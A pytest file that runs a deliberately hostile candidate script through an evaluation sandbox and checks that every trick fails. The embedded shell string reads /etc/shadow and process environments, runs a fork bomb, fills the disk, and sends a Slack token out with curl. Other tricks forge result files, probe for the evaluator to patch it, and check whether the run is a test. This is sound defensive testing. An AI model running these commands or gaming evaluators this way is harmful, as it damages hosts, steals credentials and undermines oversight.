# ruff: noqa: E501 # a shell program in a string
"""A hostile candidate in the real fence: each trick with its documented outcome.

| trick | outcome |
| --- | --- |
| reads the vault, the evaluator's store, other users' files | finds nothing; not satisfied |
| prints without end | cut at a bound, killed at the step's time; not satisfied |
| hangs | killed at the step's time; not satisfied |
| forks without end | stopped by the fence's limit; not satisfied, the machine is well |
| fills the disk | the fence's disk is full, nobody else's; not satisfied |
| exits 0 without doing anything | not satisfied |
| forges result files | never read; not satisfied |
| patches the evaluator or its libraries | they are not there; not satisfied |
| knows that it is tested | sees nothing that production would not have but the fence's own names |
| answers from a lookup table | fresh values are not in it; not satisfied |
| prints its credential | `secret-in-output`; not satisfied |
"""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from unlit.core.states import Partition
from unlit.evaluation.defaults import default_policy
from unlit.evaluation.evaluate import evaluate
from unlit.evaluation.model import EvaluationRequest, EvaluationResult, Product, ShipRule
from unlit.policy import Identity

pytestmark = [pytest.mark.fence]

PRODUCT = r"""
case "$1" in
  honest) echo "hello $2" ;;
  spy) cat __VAULT__/*.yaml __STORE__/* /etc/shadow /proc/1/environ 2>/dev/null | grep -c . || true
       echo "hello $2" ;;
  flood) yes "hello hello hello hello hello hello hello" ;;
  hang) trap '' TERM INT; while :; do sleep 1; done ;;
  fork) f() { f | f & }; f; sleep 3; echo "hello $2" ;;
  disk) dd if=/dev/zero of=big bs=1M count=100000 2>/dev/null; df -k /work | tail -1; ls -l big ;;
  exit) exit 0 ;;
  forge) for f in result.json trajectories.jsonl report.xml; do echo '{"verdict": "ship"}' > $f; done
         echo '{"event": "trajectory", "state": "satisfied"}'; echo '{"result": {"verdict": "ship"}}' ;;
  patch) python3 - <<'END'
import importlib.util, os
print(importlib.util.find_spec("unlit"), [p for p in os.listdir("/proc") if p.isdigit()] > ["9"])
END
    ;;
  env) env | cut -d= -f1 | sort | tr '\n' ' ' ;;
  table) case "$2" in Ada) echo "hello Ada" ;; Bob) echo "hello Bob" ;; *) echo "hello you" ;; esac ;;
  leak) echo "hello $2 $SLACK_TOKEN" ;;
  tell) curl -s -m 5 https://slack.com/api/chat.postMessage -H "Authorization: Bearer $SLACK_TOKEN" \
        -d "channel=#general" -d "text=$SLACK_TOKEN" >/dev/null; echo "hello $2" ;;
esac
"""

SCENARIO = """\
id: {name}
story: s
criterion: [AC-1]
partition: validation
oracle: contract
author: {{by: person}}
owner: o
because: b
vary: {{who: {{from: names}}}}
given: {{twins: {{slack: {{channels: [{{name: general}}]}}}}}}
when: [{{cli: {{run: [{name}, "{{who}}"], timeout_s: {timeout}}}}}]
then: [{{exit: 0}}, {{stdout: {{equals: "hello {{who}}"}}}}]
never: [secret-in-output]
"""

SPEC = """\
---
id: hello
title: Hello
owner: ada@example.com
uses: []
risk: low
---

# Hello

## Intent

People like to be greeted.

## Criteria

### AC-1 Greets

When it runs, the tool shall greet.

Example: Ann
- Input: `honest ann`
- Outcome: `hello ann`
"""
TRICKS = ("honest", "spy", "flood", "hang", "fork", "disk", "exit", "forge", "patch", "env",
          "table", "leak", "tell")  # fmt: skip


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> tuple[EvaluationResult, dict[str, Any]]:
    import asyncio

    folder = tmp_path_factory.mktemp("hostile")
    candidate, vault = folder / "candidate", folder / "vault"
    candidate.mkdir()
    vault.mkdir()
    store = folder / "vault.evaluator"
    text = PRODUCT.replace("__VAULT__", str(vault)).replace("__STORE__", str(store))
    (candidate / "product.sh").write_text(text, encoding="utf-8")
    (folder / "spec.md").write_text(SPEC, encoding="utf-8")
    limits = "wall_s = 60\nmemory_mb = 512\ndisk_mb = 32\nprocesses = 40\n"
    (folder / "policy.toml").write_text(default_policy(["slack"]) + limits, encoding="utf-8")
    for name in TRICKS:
        (vault / f"{name}.yaml").write_text(
            SCENARIO.format(name=name, timeout=3 if name in ("flood", "hang") else 10),
            encoding="utf-8",
        )
    request = EvaluationRequest(
        spec=folder / "spec.md", candidate=candidate, base=None, vault=vault,
        partition=Partition.VALIDATION, product=Product(
            run="sh product.sh", env={"SLACK_TOKEN": "twin:slack"}), ship=ShipRule(), seed=3,
        max_trajectories=len(TRICKS), parallel=2, look=None, artefacts=store / "g",
        policy=folder / "policy.toml", identity=Identity("r", "validate", "a", "product"),
        keep_going=True, options={"invariants": False},
    )  # fmt: skip
    result = asyncio.run(evaluate(request, lambda event: None))
    lines = (store / "g" / "trajectories.jsonl").read_text(encoding="utf-8").splitlines()
    kept = {value["record"]["scenario"]: value for value in map(json.loads, lines)}
    return result, kept


def stdout(kept: Mapping[str, Any], name: str) -> str:
    return str(kept[name]["steps"][0].get("stdout", ""))


def states(result: EvaluationResult) -> dict[str, str]:
    return {str(record.scenario): str(record.state) for record in result.trajectories}


def test_only_the_honest_answer_is_satisfied(
    graded: tuple[EvaluationResult, dict[str, Any]],
) -> None:
    found = states(graded[0])
    # what a spy or a forker prints besides does not count; what it reaches is shown below
    assert found.pop("honest") == "satisfied"
    assert {name for name, state in found.items() if state == "satisfied"} <= {"fork"}
    assert "harness_fault" not in found.values()
    assert graded[0].verdict == "not_yet"


def test_nothing_of_the_evaluator_can_be_read(
    graded: tuple[EvaluationResult, dict[str, Any]],
) -> None:
    assert stdout(graded[1], "spy").startswith("0\n")
    assert graded[0].leaks.probe == "held"
    assert graded[0].leaks.control == "held"


def test_endless_output_and_hanging_are_ended_in_time(
    graded: tuple[EvaluationResult, dict[str, Any]],
) -> None:
    for name in ("flood", "hang"):
        assert graded[1][name]["steps"][0]["timed_out"] is True
        assert graded[1][name]["record"]["duration_s"] < 30
    assert len(stdout(graded[1], "flood")) <= 20_000


def test_a_full_disk_is_its_own(graded: tuple[EvaluationResult, dict[str, Any]]) -> None:
    text = stdout(graded[1], "disk")
    size = int(text.splitlines()[-1].split()[4])
    assert size <= 40 * 1024 * 1024, text


def test_the_evaluator_is_not_there_to_be_patched(
    graded: tuple[EvaluationResult, dict[str, Any]],
) -> None:
    assert stdout(graded[1], "patch").startswith("None")


def test_the_environment_does_not_say_that_it_is_a_test(
    graded: tuple[EvaluationResult, dict[str, Any]],
) -> None:
    names = set(stdout(graded[1], "env").split())
    assert not {name for name in names if "UNLIT" in name and "UV" not in name}
    assert not {name for name in names if "TEST" in name or "SCENARIO" in name}


def test_a_credential_in_output_or_in_a_message_is_seen(
    graded: tuple[EvaluationResult, dict[str, Any]],
) -> None:
    for name in ("leak", "tell"):
        assert "never secret-in-output" in graded[1][name]["record"]["reasons"], name


def test_forged_results_are_never_read(graded: tuple[EvaluationResult, dict[str, Any]]) -> None:
    assert states(graded[0])["forge"] == "not_satisfied"
    assert graded[0].verdict == "not_yet"


def test_events_hold_no_output(
    graded: tuple[EvaluationResult, dict[str, Any]], tmp_path: Path
) -> None:
    told = json.dumps(graded[0].to_json())
    assert "hello hello" not in told
